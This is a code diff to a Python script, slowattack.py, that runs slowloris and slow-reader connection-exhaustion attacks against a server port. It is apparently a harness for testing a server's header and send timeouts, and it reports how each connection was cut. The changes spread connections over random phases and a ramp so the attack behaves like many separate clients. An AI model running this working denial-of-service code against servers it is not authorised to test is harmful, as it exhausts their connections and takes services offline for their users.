@@ -4,24 +4,29 @@
   slowattack.py --port P --slowloris 1000 --nonreaders 200 --out FILE [--drip 1.0]
                 [--max-seconds 300] [--settle 40]
 
-* slowloris: connects and sends its request head one byte every --drip seconds, never
-  finishing it. When the server cuts one (408, EOF or reset) while the attack is on, a new
+* slowloris: connects and sends its request head one byte every --drip seconds (each
+  connection at its own random phase), never finishing it. When the server cuts one (408, EOF or reset) while the attack is on, a new
   one replaces it, so the pressure stays at N connections.
 * non-readers: send `GET /big.bin` with a small receive buffer and never read; every
-  ~8 s while the attack is on they are recycled (closed by us, reopened), so N requests
+  ~8 s while the attack is on (each at its own phase: the first generation's ages are spread
+  over 0-8 s) they are recycled (closed by us, reopened), so N requests
   are always stuck in the server's send path.
 
 SIGUSR1 ends the attack: nothing is reopened or recycled any more; the last generation is
 left to the server's timeouts. The process then watches (at most --settle s) until every
 slowloris is cut, drains every non-reader (a cut one ends in EOF before the full response)
 and writes a JSON report: counts, how each was cut, how long the last ones lived.
+The first connections open over --ramp seconds (default 10, the usual header timeout).
 It prints "connected N" lines on stdout while opening, "ready" once all are open.
 """
 
 import argparse
+import heapq
+import itertools
 import errno
 import json
 import os
+import random
 import resource
 import selectors
 import signal
@@ -70,6 +75,8 @@ def main():
     ap.add_argument("--max-seconds", type=float, default=300)
     ap.add_argument("--settle", type=float, default=40)
     ap.add_argument("--out", required=True)
+    ap.add_argument("--ramp", type=float, default=10.0, help="seconds over which the first connections open")
+    ap.add_argument("--send-timeout", type=float, default=10.0, help="the server's send_timeout (s)")
     a = ap.parse_args()
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (min(65536, hard), hard))
@@ -88,7 +95,14 @@ def main():
     finals = []
     t0 = time.monotonic()
 
-    def add(kind):
+    # What is due when: (time, tie-breaker, connection, "drip" | "recycle"). Every connection
+    # keeps its own phase, as clients on many machines would: in step, this one process would
+    # send a thousand bytes (or reopen two hundred connections) in one burst, and on two
+    # shared cores that burst takes the CPU from the measuring client.
+    sched = []
+    seq = itertools.count()
+
+    def add(kind, first=False):
         now = time.monotonic()
         try:
             c = open_conn(a.port, kind, now, RCVBUF if kind == "nonreader" else None)
@@ -99,8 +113,12 @@ def main():
         if kind == "slowloris":
             sel.register(c.sock, selectors.EVENT_READ, c)
             stats["slowloris_opened"] += 1
+            c.next_drip = now + random.random() * a.drip
+            heapq.heappush(sched, (c.next_drip, next(seq), c, "drip"))
         else:
             stats["nonreaders_opened"] += 1
+            due = now + (random.random() if first else 1.0) * a.recycle
+            heapq.heappush(sched, (due, next(seq), c, "recycle"))
         return c
 
     def cut(c, how, now):
@@ -124,17 +142,18 @@ def main():
             if attacking[0]:
                 add("slowloris")
 
-    # open everything, interleaved, reporting progress
+    # open everything over --ramp seconds, interleaved: opened in one go, every slowloris
+    # would reach the server's header timeout at the same moment, and the thousand cuts and
+    # reconnections would come as one wave instead of a steady trickle of connections of all ages
+    start = time.monotonic()
+    total = a.slowloris + a.nonreaders
     for i in range(max(a.slowloris, a.nonreaders)):
-        if i < a.slowloris:
-            add("slowloris")
-        if i < a.nonreaders:
-            add("nonreader")
-        if i % 100 == 99:
-            print(f"connected {len(live)}", flush=True)
-    print(f"ready {len(live)}", flush=True)
+        for kind, n in (("slowloris", a.slowloris), ("nonreader", a.nonreaders)):
+            if i < n:
+                due = start + a.ramp * (i / max(1, n))
+                heapq.heappush(sched, (due, next(seq), None, kind))
+    to_open = [total]
 
-    last_recycle = time.monotonic()
     while True:
         now = time.monotonic()
         if now - t0 > a.max_seconds:
@@ -150,7 +169,11 @@ def main():
             if not pending or now - stop_at[0] > a.settle:
                 break
         # the server's answers (408) or closes
-        for key, _ev in sel.select(timeout=0.05):
+        wait = 0.05
+        if sched:
+            # at least 5 ms: a few drips per wake-up rather than a wake-up per drip
+            wait = min(wait, max(0.005, sched[0][0] - time.monotonic()))
+        for key, _ev in sel.select(timeout=wait):
             c = key.data
             try:
                 data = c.sock.recv(65536)
@@ -163,32 +186,45 @@ def main():
                 if c.status is None and data.startswith(b"HTTP/1."):
                     c.status = data[9:12].decode("ascii", "replace")
                 c.got += len(data)
-        # one byte per connection per --drip seconds
+        # what is due: one byte per slowloris per --drip seconds, non-readers reopened
         now = time.monotonic()
-        for c in list(live.values()):
-            if c.kind != "slowloris" or c.cut is not None or now < c.next_drip:
+        while sched and sched[0][0] <= now:
+            _due, _n, c, action = heapq.heappop(sched)
+            if c is None:  # the ramp: one of the first generation
+                add(action, first=True)
+                to_open[0] -= 1
+                if to_open[0] % 100 == 0:
+                    print(f"connected {len(live)}", flush=True)
+                if to_open[0] == 0:
+                    print(f"ready {len(live)}", flush=True)
                 continue
-            c.next_drip = now + a.drip
-            b = HEAD[c.pos:c.pos + 1] if c.pos < len(HEAD) else b"a"
-            try:
-                c.sock.send(b)
-                c.pos += 1
-            except BlockingIOError:
-                pass
-            except OSError as e:
-                cut(c, "reset" if e.errno in (errno.ECONNRESET, errno.EPIPE) else f"error {e.errno}", now)
-        # recycle non-readers while attacking
-        if attacking[0] and now - last_recycle >= a.recycle:
-            last_recycle = now
-            for c in [c for c in live.values() if c.kind == "nonreader"]:
+            if c.cut is not None or c.sock.fileno() < 0:
+                continue
+            if action == "drip":
+                c.next_drip = now + a.drip
+                heapq.heappush(sched, (c.next_drip, next(seq), c, "drip"))
+                b = HEAD[c.pos:c.pos + 1] if c.pos < len(HEAD) else b"a"
+                try:
+                    c.sock.send(b)
+                    c.pos += 1
+                except BlockingIOError:
+                    pass
+                except OSError as e:
+                    cut(c, "reset" if e.errno in (errno.ECONNRESET, errno.EPIPE) else f"error {e.errno}", now)
+            elif attacking[0] and not c.final:
                 live.pop(c.sock.fileno(), None)
                 c.sock.close()
                 stats["nonreaders_recycled"] += 1
                 add("nonreader")
 
-    # drain the last non-readers: a server that cut them gives EOF before the full response
-    end = time.monotonic() + 30
+    # drain the last non-readers: a server that cut them gives EOF before the full response.
+    # Reading lets a server that has not cut one yet go on sending, so first give the server's
+    # send_timeout time to run out for the youngest of them.
     nr = [c for c in finals if c.kind == "nonreader"]
+    youngest = max((c.start for c in nr), default=0)
+    while time.monotonic() < youngest + a.send_timeout + 2:
+        time.sleep(0.2)
+    end = time.monotonic() + 30
     for c in nr:
         c.sock.setblocking(True)
         c.sock.settimeout(max(0.1, end - time.monotonic()))
